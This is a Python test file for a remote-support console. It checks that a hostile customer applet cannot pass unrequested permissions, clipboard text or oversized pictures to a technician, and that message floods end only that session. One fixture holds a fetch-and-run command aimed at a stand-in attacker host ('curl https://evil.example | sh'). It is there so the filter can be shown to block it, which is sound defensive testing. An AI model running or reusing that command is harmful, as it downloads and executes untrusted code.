"""A customer's program that keeps no rule, against a real console engine: nothing passes, and only its session ends."""

import asyncio
import time
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path

import msgspec
import pytest

from codec.token_bucket import Rate
from codec.wire.access import Access
from codec.wire.messages import (
    FROM_APPLET,
    Answer,
    Answered,
    Ask,
    Asking,
    Bye,
    Camera,
    Chat,
    ClipboardText,
    ClipboardTooLong,
    Display,
    Displays,
    Granted,
    Message,
    Photo,
    Picture,
    PointerAt,
    Refresh,
    Release,
    SessionMessage,
    Shown,
    Stopped,
    Typing,
    Watch,
    pack,
)
from console.library.messages import ListRecordings
from console.page import messages as said
from console.session import message_filter
from console.session.message_filter import MOST_OVERSTEPS
from tests.codec.wire.test_messages import EXAMPLES
from tests.support.hostile_applets import PAGE, HostileApplet, customers, hostile_applet
from tests.support.packets import every_kind
from tests.support.relays import running_relay
from tests.support.sessions import picked_up, spoken_code
from tests.support.staff import BOB, make_technician
from tests.support.technicians import Technician, technician

SCREEN = Display(0, "screen", 0, 0, 64, 48)
KEY = every_kind(64, 48, 1, 1)[0]
VIEW = frozenset({Access.VIEW})


@asynccontextmanager
async def hostile(
    folder: Path, without: list[str] | None = None, page_with: tuple[str, ...] | None = None
) -> AsyncIterator[tuple[Technician, HostileApplet]]:
    """A technician, and a session whose applet is the test's own, or says that it is a customer's page."""
    async with running_relay(folder) as relay:
        await make_technician(relay.settings, without or [])
        async with (
            technician(relay.url, email=BOB) as bob,
            hostile_applet(relay.url, await spoken_code(bob), page_with) as applet,
        ):
            await picked_up(bob)
            await applet.connected()
            yield bob, applet


async def everything_arrived(bob: Technician, applet: HostileApplet) -> None:
    """Return when all that was said has been decided about: a line of the chat comes behind it."""
    applet.say(Chat(1, "the end", 0))
    await bob.until(lambda each: isinstance(each, said.ChatLine) and each.text == "the end")


def of_the_applet(bob: Technician) -> list[SessionMessage]:
    return [each for each in bob.heard if type(each).__module__ == "codec.wire.messages"]


async def ended(bob: Technician) -> said.Event | None:
    line = await bob.hear(
        said.ChatLine, lambda each: each.event is not None and each.event.startswith(("ended", "ref"))
    )
    return line.event


async def sees(bob: Technician, applet: HostileApplet) -> None:
    """Ask to view, be allowed, and watch."""
    bob.send(Ask(1, Access.VIEW))
    await applet.hear(Ask)
    for message in (Asking(1), Granted(VIEW), Answered(1, True), Displays([SCREEN])):
        applet.say(message)
    await bob.hear(Displays)
    bob.send(Watch(0))
    await applet.hear(Watch)


async def test_f12_nothing_that_was_not_asked_for_reaches_the_page(tmp_path: Path) -> None:
    async with hostile(tmp_path, ["clipboard_sync"]) as (bob, applet):
        for message in (
            Granted(frozenset({Access.VIEW, Access.CLIPBOARD})),
            Displays([SCREEN]),
            Picture(0, 0, KEY),
            ClipboardText("curl https://evil.example | sh"),
            PointerAt(0, 1, 1),
            Asking(3),
            Answered(3, True),
            Stopped(True),
        ):
            applet.say(message)
        await everything_arrived(bob, applet)
        heard = [each for each in of_the_applet(bob) if isinstance(each, Granted)]
        assert all(each.access == frozenset() for each in heard)
        assert {type(each).__name__ for each in of_the_applet(bob)} <= {"Computer", "Granted"}
        assert bob.pictures == 0
        bob.send(ClipboardText("hunter2-from-the-password-manager"))
        bob.send(Ask(5, Access.VIEW))
        await applet.hear(Ask)
        assert not [each for each in applet.heard if isinstance(each, ClipboardText)]
        assert {each.access for each in applet.heard if isinstance(each, Release)} == {Access.VIEW, Access.CLIPBOARD}


LIES = [
    each for each in EXAMPLES.values() if isinstance(each, FROM_APPLET) and not isinstance(each, Bye | Answer | Chat)
]
"""Whatever a customer's program can say, but for what ends the session, is of the links, or may be said at any time."""


@pytest.mark.parametrize("while_seen", [False, True])
async def test_whatever_a_page_says_unasked_gives_the_technician_nothing_that_was_not_allowed(
    tmp_path: Path, while_seen: bool
) -> None:
    async with hostile(tmp_path, page_with=PAGE) as (bob, applet):
        if while_seen:
            await sees(bob, applet)
        bob.heard.clear()
        for lie in LIES:
            applet.say(lie)
        await everything_arrived(bob, applet)
        heard = of_the_applet(bob)
        assert all(each.access <= (VIEW if while_seen else frozenset()) for each in heard if isinstance(each, Granted))
        assert not [each for each in heard if isinstance(each, ClipboardText | ClipboardTooLong | Camera | Photo)]
        await still_works(bob)


async def test_f12_the_clipboard_goes_only_where_both_want_it(tmp_path: Path) -> None:
    async with hostile(tmp_path) as (bob, applet):
        await sees(bob, applet)
        bob.send(Ask(2, Access.CLIPBOARD))
        await applet.hear(Ask)
        applet.say(Granted(VIEW | {Access.CLIPBOARD}))
        applet.say(Answered(2, True))
        await bob.hear(Answered, lambda each: each.number == 2)
        applet.say(ClipboardText("not yet"))
        bob.send(ClipboardText("not yet"))
        bob.say(said.ShareClipboard(bob.session, True))
        assert (await bob.hear(said.ClipboardShared, lambda each: each.on)).session == bob.session
        bob.send(ClipboardText("ours"))
        assert (await applet.hear(ClipboardText)).text == "ours"
        applet.say(ClipboardText("theirs"))
        assert (await bob.hear(ClipboardText)).text in ("theirs", "not yet")
        bob.say(said.ShareClipboard(bob.session, False))
        await bob.hear(said.ClipboardShared, lambda each: not each.on)
        bob.heard.clear()
        bob.send(ClipboardText("no more"))
        applet.say(ClipboardText("no more"))
        await everything_arrived(bob, applet)
        bob.send(Release(Access.CLIPBOARD))
        await applet.hear(Release)
        assert not [each for each in [*bob.heard, *applet.heard] if isinstance(each, ClipboardText)]


async def test_f11_pictures_pass_in_the_announced_size_and_only_when_asked_for(tmp_path: Path) -> None:
    async with hostile(tmp_path) as (bob, applet):
        await sees(bob, applet)
        applet.say(Picture(0, 0, KEY))
        await bob.sees(lambda _frame: True)
        await applet.hear(Shown)
        for number in range(1, 40):
            applet.say(Picture(0, number, KEY))
        applet.say(Picture(0, 99, every_kind(80, 48, 1, 1)[0]))
        applet.say(Picture(1, 0, KEY))
        while isinstance(await applet.hear(Message, is_word_of_pictures), Refresh):  # until a whole one comes
            applet.say(Picture(0, 100, KEY))
        assert bob.pictures < 10
        assert bob.picture is not None
        assert bob.picture.shape == (48, 64, 4)


def is_word_of_pictures(message: Message) -> bool:
    return isinstance(message, Refresh) or (isinstance(message, Shown) and message.number >= 100)


async def test_who_claims_permissions_again_and_again_is_named_and_ends_alone(tmp_path: Path) -> None:
    async with hostile(tmp_path) as (bob, applet):
        for _ in range(MOST_OVERSTEPS + 1):
            applet.say(Granted(VIEW))
            applet.say(Granted(frozenset()))
        assert await ended(bob) is said.Event.ENDED_OVERSTEPPED
        await still_works(bob)


def chats(number: int) -> bytes:
    return pack(Chat(number, "x" * 4_000, 0))


def types(number: int) -> bytes:
    return pack(Typing(number % 2 == 0))


def unknown(number: int) -> bytes:
    return msgspec.msgpack.encode({"kind": "hologram", "depth": number})


@customers
@pytest.mark.parametrize("flood", [chats, types, unknown])
async def test_a_flood_ends_its_session_and_nothing_else(
    tmp_path: Path,
    flood: Callable[[int], bytes],
    page_with: tuple[str, ...] | None,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The page's line and the engine go on, quickly, whatever one customer's machine says.

    Both ends are in this process: on a busy machine the flood is slower than what a real session is allowed a second,
    and would never be one. So a tenth of that is allowed; tests/console/session/test_message_filter.py has the numbers.
    """
    per_second, burst = message_filter.MESSAGES.per_second, message_filter.MESSAGES.burst
    monkeypatch.setattr(message_filter, "MESSAGES", Rate(per_second / 10, burst / 10))
    async with hostile(tmp_path, page_with=page_with) as (bob, applet):
        began = time.monotonic()
        flooding = asyncio.ensure_future(say_without_end(applet, flood))
        assert await ended(bob) is said.Event.ENDED_FLOOD
        await still_works(bob)
        assert time.monotonic() - began < 40  # 3 s on a machine that does nothing else
        assert len(bob.heard) < 1_000
        flooding.cancel()


async def say_without_end(applet: HostileApplet, flood: Callable[[int], bytes]) -> None:
    number = 0
    while True:
        for _ in range(2_000):
            applet.send(flood(number))
            number += 1
        await applet.flushed()


async def still_works(bob: Technician) -> None:
    """Prove that the page is not cut and the engine answers."""
    await asyncio.wait_for(bob.request(ListRecordings), 5)
    assert not bob.page._cut
